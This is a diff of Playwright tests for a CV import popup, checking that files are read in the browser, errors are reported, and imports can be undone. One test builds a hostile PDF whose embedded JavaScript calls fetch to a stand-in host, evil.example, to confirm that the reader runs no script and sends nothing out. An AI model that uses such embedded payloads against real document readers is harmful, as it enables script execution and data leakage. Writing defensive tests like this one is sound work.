@@ -1,10 +1,12 @@
-import { expect, test } from '@playwright/test';
 import { zipSync, strToU8 } from 'fflate';
 import { sample } from '../resume-reader/test/pdf-of.ts';
-import { openImport, pdf, press } from './import-cv.ts';
-import { storedCv } from './own-cv.ts';
+import { expect } from '@playwright/test';
+import { openImport, pdf } from './import-cv.ts';
 import { newCv } from './job-seekers.ts';
-import { joinAs, newAddress } from './people.ts';
+import { button, region } from './locators.ts';
+import { test } from './openings.ts';
+import { storedCv } from './own-cv.ts';
+import { gone, press, says, sees } from './walk.ts';
 
 /* A CV from a file that is read in the browser. */
 
@@ -36,20 +38,20 @@ const lines = [
 ];
 
 test('a PDF comes in without leaving the device, and no skill has a level that nobody gave @cv-32 @cv-34', async ({
-  page,
+  candidate: page,
 }) => {
   const sent: string[] = [];
   page.on('request', (request) => sent.push(request.postData() ?? ''));
-  const popup = await openImport(page, 'pdf');
+  const popup = await openImport(page);
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
   await expect(popup.getByText('suggested: ')).toHaveCount(2);
   await press(popup, 'Confirm Practical for Python');
   await press(popup, 'See what changes');
-  await expect(popup.getByRole('button', { name: 'Import' })).toBeVisible();
+  await sees(button(popup, 'Import'));
   expect((await storedCv(page)).workHistories).toEqual([]);
   expect(sent.join()).not.toContain('%PDF');
   await press(popup, 'Import');
-  await expect(popup.getByRole('heading', { name: 'What was imported' })).toBeVisible();
+  await sees(popup.getByRole('heading', { name: 'What was imported' }));
   const cv = await storedCv(page);
   expect(cv.profile).toMatchObject({ firstName: 'Mara', contactEmail: 'mara.quill@example.org' });
   expect(cv.workHistories.map(({ name }) => name).toSorted()).toEqual([
@@ -65,31 +67,31 @@ test('a PDF comes in without leaving the device, and no skill has a level that n
 });
 
 test('fields and words light each other, and what was not placed is put into a field @cv-35', async ({
-  page,
+  candidate: page,
 }) => {
-  const popup = await openImport(page, 'places');
+  const popup = await openImport(page);
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
-  const file = popup.getByRole('region', { name: 'Your file' });
+  const file = region(popup, 'Your file');
   const lit = file.locator('[data-shown]');
-  await expect(lit).toHaveCount(0);
+  await gone(lit);
   await popup.getByRole('textbox', { name: 'Company' }).first().focus();
   await expect(lit).toHaveCount(3);
   await file.locator('[data-word]', { hasText: 'Aldric' }).click();
   await expect(popup.getByRole('textbox', { name: 'School' })).toBeFocused();
   await expect(lit).toHaveCount(3);
-  const left = popup.getByRole('region', { name: 'Not placed' });
+  const left = region(popup, 'Not placed');
   await left.getByRole('combobox', { name: 'Put “Basket weaving” into' }).click();
   await page.getByRole('option', { name: 'Position', exact: true }).dispatchEvent('click');
   await expect(popup.getByRole('textbox', { name: 'Position' }).first()).toHaveValue(
     'Basket weaving',
   );
-  await expect(left).toHaveCount(0);
+  await gone(left);
 });
 
 test('a level, a degree and a field are chosen before a file comes in; entries are left out @cv-34 @cv-35', async ({
-  page,
+  candidate: page,
 }) => {
-  const popup = await openImport(page, 'choose');
+  const popup = await openImport(page);
   const own = [...lines, 'Education', 'Lake College', 'Licence, 2010 - 2012'];
   await popup.getByRole('textbox', { name: 'Or paste its text' }).fill(own.join('\n'));
   await press(popup, 'Read the text');
@@ -103,17 +105,16 @@ test('a level, a degree and a field are chosen before a file comes in; entries a
     await page.getByRole('option', { name: choice, exact: true }).dispatchEvent('click');
   }
   await press(popup, 'See what changes');
-  await expect(popup).toContainText('1 education');
-  await expect(popup).toContainText('1 skill');
+  await says(popup, '1 education', '1 skill');
   await press(popup, 'Back');
   await press(popup, 'Leave out Platform Engineer');
   await press(popup, 'See what changes');
-  await expect(popup).toContainText('1 education');
+  await says(popup, '1 education');
   await expect(popup).not.toContainText('1 job');
 });
 
-test('a Word file and a pasted text are read, too @cv-32', async ({ page }) => {
-  const popup = await openImport(page, 'word');
+test('a Word file and a pasted text are read, too @cv-32', async ({ candidate: page }) => {
+  const popup = await openImport(page);
   await popup.getByLabel('Choose a file').setInputFiles({
     name: 'mara.docx',
     mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
@@ -127,19 +128,21 @@ test('a Word file and a pasted text are read, too @cv-32', async ({ page }) => {
   await expect(company).toHaveValue('Maple Fork Technologies');
 });
 
-test('on a phone the file stays in sight above the fields @cv-35', async ({ page }) => {
+test('on a phone the file stays in sight above the fields @cv-35', async ({ candidate: page }) => {
   await page.setViewportSize({ width: 390, height: 844 });
-  const popup = await openImport(page, 'phone');
+  const popup = await openImport(page);
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
   await popup.getByRole('textbox', { name: 'School' }).scrollIntoViewIfNeeded();
-  await expect(popup.getByRole('region', { name: 'Your file' })).toBeInViewport({ ratio: 0.9 });
-  await expect(popup.getByRole('button', { name: 'See what changes' })).toBeInViewport();
+  await expect(region(popup, 'Your file')).toBeInViewport({ ratio: 0.9 });
+  await expect(button(popup, 'See what changes')).toBeInViewport();
   const wider = () => popup.evaluate((one) => one.scrollWidth - one.clientWidth);
   await expect.poll(wider).toBeLessThanOrEqual(0);
 });
 
-test('a file that cannot be read says why, and nothing is sent @cv-33', async ({ page }) => {
-  const popup = await openImport(page, 'broken');
+test('a file that cannot be read says why, and nothing is sent @cv-33', async ({
+  candidate: page,
+}) => {
+  const popup = await openImport(page);
   const choose = popup.getByLabel('Choose a file');
   const calls: string[] = [];
   page.on('request', (request) => {
@@ -167,37 +170,37 @@ test('a file that cannot be read says why, and nothing is sent @cv-33', async ({
   ];
   for (const { file, words } of files) {
     await choose.setInputFiles(file);
-    await expect(popup.getByRole('alert')).toContainText(words);
+    await says(popup.getByRole('alert'), words);
   }
   expect(calls).toEqual([]);
 });
 
 test('without a network a file cannot be read yet, and is read when it is back @cv-33', async ({
-  page,
-  context,
+  candidate: page,
 }) => {
-  const popup = await openImport(page, 'reader-offline');
+  const context = page.context();
+  const popup = await openImport(page);
   await context.setOffline(true);
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
-  await expect(popup.getByRole('alert')).toBeVisible();
+  await sees(popup.getByRole('alert'));
   await context.setOffline(false);
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
-  await expect(popup.getByRole('button', { name: 'See what changes' })).toBeVisible();
+  await sees(button(popup, 'See what changes'));
 });
 
 test('a worker that ends in the middle is told of, and the next file is read @cv-33', async ({
-  page,
+  candidate: page,
 }) => {
   await page.route(/assets\/resume-worker/, (route) => route.abort(), { times: 1 });
-  const popup = await openImport(page, 'reader-gone');
+  const popup = await openImport(page);
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
-  await expect(popup.getByRole('alert')).toContainText('We couldn’t finish reading the file');
+  await says(popup.getByRole('alert'), 'We couldn’t finish reading the file');
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
-  await expect(popup.getByRole('button', { name: 'See what changes' })).toBeVisible();
+  await sees(button(popup, 'See what changes'));
 });
 
 test('a hostile file runs no script, fetches nothing and leaves the page alive @cv-33 @H7.28', async ({
-  page,
+  candidate: page,
 }) => {
   const origins = new Set<string>();
   page.on('request', (request) => origins.add(new URL(request.url()).origin));
@@ -206,7 +209,7 @@ test('a hostile file runs no script, fetches nothing and leaves the page alive @
   });
   const errors: string[] = [];
   page.on('pageerror', (error) => errors.push(error.message));
-  const popup = await openImport(page, 'hostile');
+  const popup = await openImport(page);
   const script = {
     catalog:
       '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); fetch\\("https://evil.example"\\)) >> /AA << /WC << /S /URI /URI (https://evil.example/x) >> >>',
@@ -217,7 +220,7 @@ test('a hostile file runs no script, fetches nothing and leaves the page alive @
   ];
   await popup.getByLabel('Choose a file').setInputFiles(pdf([texts], script));
   await expect(popup.getByRole('textbox', { name: 'Name' })).toHaveValue('Mara Quill');
-  await expect(popup.getByRole('region', { name: 'Your file' })).toContainText('onerror');
+  await says(region(popup, 'Your file'), 'onerror');
   await press(popup, 'Back');
   // More works than a CV has room for.
   const work = 'Engineer, Quay Works\nJan 2010 - Mar 2012\n- Built a thing with <b>Python</b>.\n\n';
@@ -225,47 +228,44 @@ test('a hostile file runs no script, fetches nothing and leaves the page alive @
   await popup
     .getByLabel('Choose a file')
     .setInputFiles({ name: 'long.txt', mimeType: 'text/plain', buffer: Buffer.from(long) });
-  await expect(popup.getByText('The first 50 of')).toBeVisible();
+  await sees(popup.getByText('The first 50 of'));
   await popup.getByRole('textbox', { name: 'Name' }).fill('Mara Quist');
   await press(popup, 'See what changes');
-  await expect(popup).toContainText('50 jobs');
+  await says(popup, '50 jobs');
   expect([...origins]).toEqual([new URL(page.url()).origin]);
   expect(errors).toEqual([]);
 });
 
 test('a published CV: before and after are shown, and the import is taken back as one step @cv-22 @cv-34', async ({
-  page,
+  candidate: page,
 }) => {
-  await joinAs(page, newAddress('published'), 'find work');
-  const name = { firstName: 'Ada', lastName: 'Quist' };
+  const name = 'Ada Quist';
   await newCv(page, name, [{ name: 'Python', level: 5 }]);
   const before = await storedCv(page);
   expect(before.status).toBe('published');
   await page.goto('/resume');
-  await page.getByRole('button', { name: 'Import a CV' }).click();
+  await button(page, 'Import a CV').click();
   const popup = page.getByRole('dialog', { name: 'Import a CV' });
   await popup.getByLabel('Choose a file').setInputFiles(pdf());
-  await expect(popup.getByText('Expert, as in your CV')).toBeVisible();
+  await sees(popup.getByText('Expert, as in your CV'));
   await press(popup, 'Leave out Python');
   await press(popup, 'See what changes');
-  await expect(popup.getByRole('alert')).toContainText('confirm the level of at least one skill');
+  await says(popup.getByRole('alert'), 'confirm the level of at least one skill');
   await press(popup, 'Confirm Advanced for Kubernetes');
   await press(popup, 'See what changes');
-  const overwritten = popup.getByRole('region', { name: 'What will be replaced' });
-  await expect(overwritten).toContainText('Ada → Mara');
-  await expect(overwritten).toContainText('RemovedPython: Expert');
-  await expect(overwritten).toContainText('AddedKubernetes: Advanced');
-  await expect(popup).toContainText('employers see the changes right away');
+  const overwritten = region(popup, 'What will be replaced');
+  await says(overwritten, 'Ada → Mara', 'RemovedPython: Expert', 'AddedKubernetes: Advanced');
+  await says(popup, 'employers see the changes right away');
   expect(await storedCv(page)).toEqual(before);
   await press(popup, 'Import');
   await press(popup, 'Done');
-  await expect(popup).toHaveCount(0);
-  await expect(page.getByRole('heading', { name: 'Mara Quill' })).toBeVisible();
+  await gone(popup);
+  await sees(page.getByRole('heading', { name: 'Mara Quill' }));
   const { status, skills } = await storedCv(page);
   expect(status).toBe('published');
   expect(skills).toMatchObject([{ name: 'Kubernetes', level: 4 }]);
-  await page.getByRole('button', { name: 'Undo import' }).click();
-  await expect(page.getByRole('heading', { name: 'Ada Quist' })).toBeVisible();
+  await button(page, 'Undo import').click();
+  await sees(page.getByRole('heading', { name: 'Ada Quist' }));
   const after = await storedCv(page);
   expect(after).toMatchObject({ status: 'published', profile: before.profile });
   expect(after.skills).toMatchObject([{ name: 'Python', level: 5 }]);
@@ -273,18 +273,17 @@ test('a published CV: before and after are shown, and the import is taken back a
 });
 
 test('of a CV printed here, with its own fonts, name and mail are read again @cv-32', async ({
-  page,
+  candidate: page,
 }) => {
-  await joinAs(page, newAddress('printed'), 'find work');
-  const name = { firstName: 'Ada', lastName: 'Quist' };
+  const name = 'Ada Quist';
   await newCv(page, name, [{ name: 'Python', level: 4 }]);
   await page.goto('/resume');
-  await expect(page.getByRole('heading', { name: 'Ada Quist' })).toBeVisible();
+  await sees(page.getByRole('heading', { name: 'Ada Quist' }));
   const buffer = await page.pdf();
-  await page.getByRole('button', { name: 'Import a CV' }).click();
+  await button(page, 'Import a CV').click();
   const popup = page.getByRole('dialog', { name: 'Import a CV' });
   await popup.getByLabel('Choose a file').setInputFiles({ ...pdf(), buffer });
   await expect(popup.getByRole('textbox', { name: 'Name' })).toHaveValue('Ada Quist');
   await expect(popup.getByRole('textbox', { name: 'E-mail' })).toHaveValue('baker@post.example');
-  await expect(popup.getByRole('region', { name: 'Your file' })).toContainText('Python');
+  await says(region(popup, 'Your file'), 'Python');
 });
